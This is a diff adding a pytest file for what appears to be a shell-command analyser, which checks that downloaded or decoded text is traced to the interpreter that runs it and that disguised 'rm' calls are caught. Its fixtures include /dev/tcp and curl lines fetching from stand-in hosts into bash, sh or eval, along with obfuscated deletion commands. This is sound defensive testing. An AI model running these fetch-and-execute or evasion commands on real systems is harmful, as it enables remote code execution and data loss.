@@ -1,0 +1,74 @@
+"""Data that goes from one command into another: where text that was fetched, decoded or read in comes to be run."""
+
+from collections.abc import Callable
+
+import pytest
+
+FLOWS = {
+    "a shell reads from a descriptor that a socket was opened on": (
+        "exec 3<>/dev/tcp/evil.example/80; bash <&3",
+        ["download-to-interpreter"],
+    ),
+    "a pipe carries on what a descriptor reads": (
+        "exec 3<>/dev/tcp/evil.example/80; cat <&3 | sh",
+        ["download-to-interpreter"],
+    ),
+    "a descriptor in a variable": ('exec {fd}< <(curl http://h/x); sh <&"$fd"', ["download-to-interpreter"]),
+    "a descriptor keeps what it was connected with first": (
+        "exec 3< <(curl http://h/x); true 3< README.md; sh <&3",
+        ["download-to-interpreter"],
+    ),
+    "`read -u` takes lines from a descriptor": (
+        'exec 3< <(curl http://h/x); read -u 3 l; eval "$l"',
+        ["download-to-interpreter"],
+    ),
+    "lines of a pipe are run one by one": (
+        'curl http://h/x | while read l; do eval "$l"; done',
+        ["download-to-interpreter"],
+    ),
+    "an array of lines is run": ('mapfile -t a < <(curl http://h/x); eval "${a[@]}"', ["download-to-interpreter"]),
+    "what is cut from a fetched text is fetched": (
+        'x=$(curl http://h/x); eval "${x#junk}"',
+        ["download-to-interpreter"],
+    ),
+    "a shell reads from a coprocess": ("coproc curl http://h/x; sh <&${COPROC[0]}", ["download-to-interpreter"]),
+    "the text of a fetched file is run": ('curl -o t http://h/x; eval "$(cat t)"', ["download-then-run"]),
+    "a file is written by a decoder and run": ("base64 -d x > a; sh a", ["decode-to-interpreter"]),
+    "a decoded file is copied and run": ("xxd -r -p x > a; cp a b; sh b", ["decode-to-interpreter"]),
+    "a decoder writes the file itself": ("openssl enc -d -in x -out a; . ./a", ["decode-to-interpreter"]),
+    "another file than the decoded one is run": ("base64 -d x > a; sh b", []),
+    "a file is unpacked in its place": ("gunzip tool.gz && ./tool", []),
+    "line ends are taken out of a script": ("tr -d x < a > b; sh b", []),
+    "what is read is only printed": ('curl http://h/x | while read l; do echo "$l"; done', []),
+}
+
+RUNS = {
+    "text that goes through a wrapper": "env A=1 echo rm x | sh",
+    "text that goes through two wrappers": "nohup timeout 5 echo rm x | sh",
+    "text of a subshell": "(echo rm x) | sh",
+    "text of a group": "{ echo rm x; } | sh",
+    "words of a format": "printf '%s %s' rm x | sh",
+    "the elements of an array": 'a=(rm -f x); "${a[@]}"',
+    "elements added to an array": 'a=(rm); a+=(-f x); "${a[@]}"',
+    "an element of an array": "a=(ls rm); ${a[1]} x",
+    "words read from a text": "read c f <<< 'rm x'; $c $f",
+    "a line of several": "while read l; do $l; done <<EOF\nls\nrm x\nEOF",
+    "an array read from a text": "mapfile -t a <<< 'rm x'; eval \"${a[0]}\"",
+    "a variable set by printf": "printf -v c '%s %s' rm x; eval \"$c\"",
+    "a variable named by another": "x=y; y='rm x'; eval \"${!x}\"",
+}
+
+
+@pytest.mark.parametrize("sentence", FLOWS)
+def test_text_from_elsewhere_is_followed_to_what_runs_it(sentence: str, told: Callable[[str], list[str]]) -> None:
+    command, patterns = FLOWS[sentence]
+    assert [effect.removeprefix("flow ") for effect in told(command) if effect.startswith("flow")] == patterns
+
+
+@pytest.mark.parametrize("sentence", RUNS)
+def test_text_that_is_known_is_followed_to_what_it_does(sentence: str, told: Callable[[str], list[str]]) -> None:
+    assert "delete /w/x" in told(RUNS[sentence])
+
+
+def test_what_only_may_be_known_stays_a_question(told: Callable[[str], list[str]]) -> None:
+    assert "opaque" in told("read c <<< ls; $c")
